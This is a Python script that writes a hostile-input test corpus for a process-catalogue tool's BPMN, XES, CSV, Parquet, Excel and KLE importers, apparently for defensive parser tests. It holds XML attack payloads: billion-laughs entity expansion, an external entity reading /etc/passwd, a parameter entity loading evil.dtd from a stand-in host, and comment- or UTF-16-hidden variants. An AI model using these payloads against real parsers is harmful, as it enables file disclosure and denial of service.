"""Writes the committed part of the hostile-input corpus (run from the repository root:
``python tests/data/hostile/make_corpus.py``). Every file is made by us; see README.md.
The large files (bombs, 60 MB lines, a million columns, files over the limits) are generated
by the test's fixtures instead, so nothing big is committed."""

from __future__ import annotations

import gzip
import io
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
BPMN_NS = "http://www.omg.org/spec/BPMN/20100524/MODEL"
LAUGHS = (
    '<!DOCTYPE %s [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>'
)
XXE = '<!DOCTYPE %s [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
PARAM = '<!DOCTYPE %s [<!ENTITY %% p SYSTEM "http://192.0.2.1/evil.dtd"> %%p;]>'
DECL = '<?xml version="1.0" encoding="UTF-8"?>\n'


def bpmn(body: str = '<task id="t" name="Opgave"/>', name: str = "Proces") -> str:
    return (
        f'<definitions xmlns="{BPMN_NS}" id="d" targetNamespace="t">'
        f'<process id="p" name="{name}">{body}</process></definitions>'
    )


def xes(activity: str = "Modtag", stamp: str = "2026-01-05T09:00:00+01:00") -> str:
    return (
        '<log xes.version="1.0"><trace><string key="concept:name" value="1"/>'
        f'<event><string key="concept:name" value="{activity}"/>'
        f'<date key="time:timestamp" value="{stamp}"/></event></trace></log>'
    )


def kle(body: str = "<UdgivelsesDato>2026-01-01</UdgivelsesDato>") -> str:
    return f"<KLE-Emneplan>{body}</KLE-Emneplan>"


GARBAGE = bytes((i * 131 + 7) % 256 for i in range(4096))

FILES: dict[str, bytes] = {
    # --- BPMN models (process import) -----------------------------------------------------
    "bpmn/billion-laughs.bpmn": (DECL + LAUGHS % "definitions" + bpmn(name="&d;")).encode(),
    "bpmn/external-entity.bpmn": (DECL + XXE % "definitions" + bpmn(name="&x;")).encode(),
    "bpmn/parameter-entity.bpmn": (DECL + PARAM % "definitions" + bpmn()).encode(),
    "bpmn/doctype-behind-comment.bpmn": (
        DECL + "<!-- <definitions -->" + LAUGHS % "definitions" + bpmn(name="&d;")
    ).encode(),
    "bpmn/doctype-inside-root.bpmn": (
        DECL + bpmn(body=XXE % "x" + '<task id="t" name="&x;"/>')
    ).encode(),
    "bpmn/doctype-utf16.bpmn": (
        '<?xml version="1.0" encoding="UTF-16"?>' + LAUGHS % "definitions" + bpmn(name="&d;")
    ).encode("utf-16"),
    "bpmn/undefined-entity-in-attribute.bpmn": (DECL + bpmn(name="&ukendt;")).encode(),
    "bpmn/truncated.bpmn": (DECL + bpmn())[:-40].encode(),
    "bpmn/empty.bpmn": b"",
    "bpmn/whitespace-only.bpmn": b"   \n\t\n",
    "bpmn/binary-garbage.bpmn": GARBAGE,
    "bpmn/html-root.bpmn": b"<html><body><h1>Ikke BPMN</h1></body></html>",
    "bpmn/wrong-namespace.bpmn": bpmn().replace(BPMN_NS, "http://example.org/bpmn").encode(),
    "bpmn/duplicate-ids.bpmn": bpmn('<task id="t" name="A"/><task id="t" name="B"/>').encode(),
    "bpmn/control-character-in-name.bpmn": bpmn(name="Proces\x01\x02").encode(),
    "bpmn/nul-byte.bpmn": bpmn(name="Pro\x00ces").encode(),
    "bpmn/nul-character-reference.bpmn": bpmn(name="Pro&#0;ces").encode(),
    "bpmn/latin1-bytes-declared-utf8.bpmn": (DECL + bpmn(name="Ansøgning")).encode("latin-1"),
    "bpmn/unknown-encoding.bpmn": ('<?xml version="1.0" encoding="x-ukendt"?>' + bpmn()).encode(),
    "bpmn/nested-too-deep.bpmn": (
        DECL + bpmn("<extensionElements>" * 300 + "</extensionElements>" * 300)
    ).encode(),
    # --- XES event logs (event-log import) --------------------------------------------------
    "xes/billion-laughs.xes": (DECL + LAUGHS % "log" + xes("&d;")).encode(),
    "xes/external-entity.xes": (DECL + XXE % "log" + xes("&x;")).encode(),
    "xes/parameter-entity.xes": (DECL + PARAM % "log" + xes()).encode(),
    "xes/doctype-behind-comment.xes": (
        DECL + "<!-- <log -->" + LAUGHS % "log" + xes("&d;")
    ).encode(),
    "xes/doctype-behind-instruction.xes": (
        DECL + "<?procesbank <log?>" + LAUGHS % "log" + xes("&d;")
    ).encode(),
    "xes/doctype-inside-log.xes": (
        DECL + xes().replace("<trace>", XXE % "log" + "<trace>", 1)
    ).encode(),
    "xes/doctype-utf16.xes": (
        '<?xml version="1.0" encoding="UTF-16"?><!-- <log -->' + LAUGHS % "log" + xes("&d;")
    ).encode("utf-16"),
    "xes/truncated.xes": (DECL + xes())[:-30].encode(),
    "xes/truncated.xes.gz": gzip.compress((DECL + xes()).encode(), mtime=0)[:-12],
    "xes/gzip-of-garbage.xes.gz": gzip.compress(GARBAGE, mtime=0),
    "xes/binary-garbage.xes": GARBAGE,
    "xes/html-root.xes": b"<html><body>Ikke en log</body></html>",
    "xes/empty-log.xes": (DECL + '<log xes.version="1.0"></log>').encode(),
    "xes/empty-file.xes": b"",
    "xes/control-character.xes": (DECL + xes("Mod\x01tag")).encode(),
    "xes/nul-character-reference.xes": (DECL + xes("Mod&#0;tag")).encode(),
    "xes/undefined-entity.xes": (DECL + xes("&ukendt;")).encode(),
    "xes/latin1-bytes-declared-utf8.xes": (DECL + xes("Ansøgning")).encode("latin-1"),
    "xes/date-not-a-date.xes": (DECL + xes(stamp="i går klokken 9")).encode(),
    # --- CSV event logs (mapped: case, activity, timestamp) ---------------------------------
    "csv/binary-garbage.csv": GARBAGE,
    "csv/nul-bytes.csv": b"case,activity,timestamp\n1,Mod\x00tag,2026-01-05 09:00\n",
    "csv/empty.csv": b"",
    "csv/header-only.csv": b"case,activity,timestamp\n",
    "csv/missing-timestamp-column.csv": b"case,activity,tid\n1,Modtag,2026-01-05 09:00\n",
    "csv/unparseable-dates.csv": (
        "case,activity,timestamp\n1,Modtag,i går\n1,Afslut,i dag\n".encode()
    ),
    "csv/years-1-to-9999.csv": (
        b"case,activity,timestamp\n1,Modtag,0001-01-01 00:00\n1,Afslut,9999-12-31 23:59\n"
    ),
    "csv/year-99999.csv": b"case,activity,timestamp\n1,Modtag,99999-01-01 00:00\n",
    "csv/unbalanced-quote.csv": b'case,activity,timestamp\n1,"Modtag,2026-01-05 09:00\n',
    "csv/empty-activity.csv": b"case,activity,timestamp\n1,,2026-01-05 09:00\n",
    "csv/empty-case.csv": b"case,activity,timestamp\n,Modtag,2026-01-05 09:00\n",
    # --- Parquet event logs ------------------------------------------------------------------
    "parquet/garbage-with-magic.parquet": b"PAR1" + GARBAGE + b"PAR1",
    "parquet/not-parquet.parquet": GARBAGE,
    "parquet/empty.parquet": b"",
    # --- Catalogue import (Excel or CSV) -----------------------------------------------------
    "catalogue/not-a-zip.xlsx": GARBAGE,
    "catalogue/truncated-zip.xlsx": b"PK\x03\x04" + GARBAGE[:200],
    "catalogue/empty.xlsx": b"",
    "catalogue/nul-bytes.csv": b"navn,KLE\nProces\x00,01.02.03\n",
    "catalogue/binary-garbage.csv": GARBAGE,
    # --- KL's KLE plan (procesbank kle import) ------------------------------------------------
    "kle/billion-laughs.xml": (DECL + LAUGHS % "KLE-Emneplan" + kle("<X>&d;</X>")).encode(),
    "kle/external-entity.xml": (DECL + XXE % "KLE-Emneplan" + kle("<X>&x;</X>")).encode(),
    "kle/doctype-behind-comment.xml": (
        DECL + "<!-- <KLE-Emneplan -->" + LAUGHS % "KLE-Emneplan" + kle("<X>&d;</X>")
    ).encode(),
    "kle/truncated.xml": (DECL + kle())[:-10].encode(),
    "kle/wrong-root.xml": (DECL + "<html/>").encode(),
    "kle/binary-garbage.xml": GARBAGE,
    "kle/empty.xml": b"",
    # --- Attachments of automation candidates ---------------------------------------------------
    "attachments/empty.pdf": b"",
}


def xlsx_with(parts: dict[str, str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
    return buffer.getvalue()


FILES["catalogue/xxe-in-shared-strings.xlsx"] = xlsx_with(
    {
        "[Content_Types].xml": '<?xml version="1.0"?>' + XXE % "Types" + "<Types>&x;</Types>",
        "xl/workbook.xml": "<workbook/>",
    }
)


def main() -> None:
    for name, data in FILES.items():
        path = HERE / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    print(f"{len(FILES)} files")


if __name__ == "__main__":
    main()
